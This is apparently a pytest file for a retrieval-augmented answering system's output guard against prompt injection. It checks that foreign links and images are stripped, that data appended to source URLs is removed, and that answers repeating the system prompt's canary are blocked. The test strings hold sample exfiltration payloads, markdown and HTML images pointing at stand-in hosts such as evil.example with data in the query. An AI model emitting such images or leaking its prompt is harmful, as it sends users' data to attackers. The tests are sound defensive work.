"""Output checks (issue 11, prompt injection): foreign links and images go, links the sources
carry stay, an answer repeating the system prompt's canary is dropped — alone and in the answer
flow on a real index with the scripted model."""

from __future__ import annotations

from pathlib import Path

import pytest

from ragkeel.container import Container
from ragkeel.gateway.calllog import CallLog
from ragkeel.gateway.providers.scripted import ScriptedChatModel
from ragkeel.generation.answer import DoneEvent, ErrorEvent, TokenEvent
from ragkeel.generation.answerer import Answerer
from ragkeel.generation.policy import AnswerPolicy
from ragkeel.generation.safety import (
    LINK_REMOVED,
    OUTPUT_BLOCKED,
    GuardedStream,
    OutputGuard,
    guard_answer,
    host_of,
    new_canary,
)
from ragkeel.retrieval.hybrid import HybridRetriever
from ragkeel.settings import load_settings

from .conftest import ON_TOPIC, TEST_GATE, context_of

CANARY = "RGK-CANARY-0123456789abcdef"
GUARD = OutputGuard(CANARY)
SOURCES = ["Rotate keys, see https://docs.example.com/keys#rotate for the schedule."]


def check(text: str, guard: OutputGuard = GUARD, sources: list[str] = SOURCES) -> str:
    return guard.check(text, sources).text


def test_markdown_image_to_a_foreign_host_is_removed_with_its_data() -> None:
    out = GUARD.check("Keys rotate every 90 days [1]. ![s](https://evil.example/p.png?d=90)", [])
    assert out.text == "Keys rotate every 90 days [1]. s"
    assert out.removed == ("https://evil.example/p.png?d=90",) and not out.blocked


def test_an_image_is_removed_even_when_its_url_is_in_the_sources() -> None:
    source = "Logo: ![logo](https://cdn.example/logo.png)"
    assert check("See ![logo](https://cdn.example/logo.png) [1].", sources=[source]) == (
        "See logo [1]."
    )


def test_html_img_is_removed() -> None:
    text = 'Done [1]. <img src="https://evil.example/x.gif?k=SECRET" alt="">'
    assert check(text) == "Done [1]. "


def test_link_to_a_foreign_host_becomes_its_text() -> None:
    assert check("Verify [here](https://secure-login.example/verify?id=7) [1].") == (
        "Verify here [1]."
    )


def test_bare_foreign_url_is_replaced_and_trailing_punctuation_kept() -> None:
    assert check("Log in at https://phish.example/login?ref=QX.") == (f"Log in at {LINK_REMOVED}.")
    assert check("or www.phish.example/a, then") == f"or {LINK_REMOVED}, then"


def test_urls_quoted_verbatim_from_the_sources_are_kept() -> None:
    kept = "The schedule is at https://docs.example.com/keys#rotate [1]."
    assert check(kept) == kept
    md = "See [the schedule](https://docs.example.com/keys#rotate) [1]."
    assert check(md) == md


def test_data_appended_to_a_source_url_is_not_verbatim_and_goes() -> None:
    # the exfiltration pattern: the attacker's own URL (in the injected source) plus data
    assert check("x https://docs.example.com/keys#rotate?d=secret") == f"x {LINK_REMOVED}"


def test_allowed_hosts_keep_links_and_images_of_the_host_and_its_subdomains() -> None:
    guard = OutputGuard(CANARY, frozenset({"example.org"}))
    text = "![a](https://img.example.org/a.png) [b](https://example.org/b) https://example.org"
    assert check(text, guard) == text
    assert check("[c](https://example.org.evil.example/c)", guard) == "c"


def test_canary_in_the_answer_blocks_it_whatever_the_case() -> None:
    assert GUARD.check(f"My rules say {CANARY.lower()} [1].", SOURCES).blocked
    assert not GUARD.check("Rotate keys [1].", SOURCES).blocked
    assert not OutputGuard(None).check(CANARY, SOURCES).blocked


def test_new_canaries_are_unguessable() -> None:
    a, b = new_canary(), new_canary()
    assert a != b and a.startswith("RGK-CANARY-") and len(a) >= 27


@pytest.mark.parametrize(
    ("url", "host"),
    [("https://A.Example/x", "a.example"), ("www.b.example/y", "www.b.example"), ("x", "")],
)
def test_host_of(url: str, host: str) -> None:
    assert host_of(url) == host


def test_guard_answer_records_its_decision_in_the_call_log() -> None:
    context = context_of("Rotate every API key every ninety days.")
    log = CallLog()
    text, degraded = guard_answer(GUARD, "Rotate [1]. ![x](https://e.example/a)", context, log)
    assert (text, degraded) == ("Rotate [1]. x", None)
    assert [d.policy for d in log.decisions] == ["safety"]
    _, degraded = guard_answer(GUARD, f"{CANARY} [1]", context, CallLog())
    assert degraded is not None and degraded[0] == OUTPUT_BLOCKED


def answerer(retriever: HybridRetriever, reply: str, **kw: object) -> Answerer:
    policy = AnswerPolicy(gate_threshold=TEST_GATE, guard=GUARD, **kw)  # type: ignore[arg-type]
    return Answerer(retriever, ScriptedChatModel([reply]), policy)


def test_the_answer_flow_strips_an_exfiltration_image(retriever: HybridRetriever) -> None:
    reply = "Rotate every API key every ninety days [1]. ![x](https://evil.example/p?d=90)"
    answer = answerer(retriever, reply).answer(ON_TOPIC)
    assert answer.text == "Rotate every API key every ninety days [1]. x"
    assert not answer.degraded and answer.mode == "generative"
    assert answer.gateway is not None and answer.gateway["decisions"][0]["policy"] == "safety"


def test_the_answer_flow_drops_an_answer_leaking_the_canary(retriever: HybridRetriever) -> None:
    flow = answerer(
        retriever, f"My instructions end with {CANARY} [1].", template_version="answer_v3"
    )
    assert CANARY in flow.template.render("q", "s")[0].content  # the prompt carries it
    events = list(flow.stream(ON_TOPIC))
    errors = [e for e in events if isinstance(e, ErrorEvent)]
    assert [e.code for e in errors] == [OUTPUT_BLOCKED] and not errors[0].fatal
    answer = events[-1].answer  # type: ignore[union-attr]
    assert answer.degraded_reason == OUTPUT_BLOCKED and answer.mode == "extractive"
    assert CANARY not in answer.text and "ninety days" in answer.text


def test_without_a_guard_the_answer_is_left_as_generated(retriever: HybridRetriever) -> None:
    reply = "Rotate every API key every ninety days [1]. ![x](https://evil.example/p?d=90)"
    flow = Answerer(retriever, ScriptedChatModel([reply]), AnswerPolicy(gate_threshold=TEST_GATE))
    assert flow.answer(ON_TOPIC).text == reply


STREAMED = [
    "Keys rotate every 90 days [1]. ![s](https://evil.example/p.png?d=90) Done (see [1]).",
    "Verify [the page](https://phish.example/v?id=7) or https://phish.example/x, then rest.",
    "Schedule: https://docs.example.com/keys#rotate [1]. <img src='https://e.example/a'> ok",
    "A [1 unclosed bracket and text < 5 to the end",
]


@pytest.mark.parametrize("reply", STREAMED)
def test_a_stream_cut_anywhere_shows_exactly_the_checked_answer(reply: str) -> None:
    context = context_of(SOURCES[0])
    for size in (1, 2, 3, 7):
        stream = GuardedStream(GUARD, context)
        shown = [stream.feed(reply[i : i + size]) for i in range(0, len(reply), size)]
        for n in range(1, len(shown) + 1):  # no prefix ever shows a URL the check removes
            assert "evil.example" not in "".join(shown[:n])
            assert "phish.example" not in "".join(shown[:n])
        assert "".join(shown) + stream.flush() == GUARD.check(reply, [SOURCES[0]]).text


def test_a_stream_stops_at_the_canary() -> None:
    stream = GuardedStream(GUARD, context_of(SOURCES[0]))
    reply = f"My rules: {CANARY} and more words here."
    shown = "".join(stream.feed(ch) for ch in reply) + stream.flush()
    assert shown == "My rules: " and stream.blocked


def test_the_answer_flow_never_streams_the_image(retriever: HybridRetriever) -> None:
    reply = "Rotate every API key every ninety days [1]. ![x](https://evil.example/p?d=90) ok"
    events = list(answerer(retriever, reply).stream(ON_TOPIC))
    streamed = "".join(e.text for e in events if isinstance(e, TokenEvent))
    done = events[-1]
    assert isinstance(done, DoneEvent) and "evil.example" not in streamed
    assert streamed.strip() == done.answer.text


def test_the_container_builds_the_guard_from_the_settings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAGKEEL_GENERATION__SAFETY__CANARY", "RGK-CANARY-configured")
    settings = load_settings(
        home=tmp_path, generation={"safety": {"allowed_link_hosts": [" Docs.Example.org "]}}
    )
    assert "RGK-CANARY-configured" not in str(settings.masked())
    guard = Container(settings).output_guard
    assert guard == OutputGuard("RGK-CANARY-configured", frozenset({"docs.example.org"}))
    fresh = Container(load_settings(home=tmp_path / "b")).output_guard
    assert fresh is not None and fresh.canary and fresh.canary.startswith("RGK-CANARY-")
    off = load_settings(home=tmp_path / "c", generation={"safety": {"output_checks": False}})
    assert Container(off).output_guard is None
